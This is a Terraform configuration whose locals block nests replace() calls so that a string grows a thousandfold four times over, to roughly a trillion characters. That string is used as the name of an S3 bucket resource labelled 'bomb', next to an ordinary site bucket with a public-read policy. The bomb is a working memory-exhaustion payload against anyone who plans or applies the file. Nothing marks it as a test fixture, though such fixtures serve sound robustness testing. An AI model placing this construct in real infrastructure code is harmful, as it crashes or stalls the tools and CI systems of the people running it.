# Every letter becomes a thousand, four times over.

locals {
  a = replace("a", "a", join("", [for i in range(1000) : "a"]))
  b = replace(local.a, "a", local.a)
  c = replace(local.b, "a", local.a)
  d = replace(local.c, "a", local.a)
}

resource "aws_s3_bucket" "bomb" {
  bucket = local.d
}

resource "aws_s3_bucket" "site" {
  bucket = "acme-site"
}

resource "aws_s3_bucket_policy" "site" {
  bucket = aws_s3_bucket.site.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = "*"
      Action    = "s3:GetObject"
      Resource  = "arn:aws:s3:::acme-site/*"
    }]
  })
}
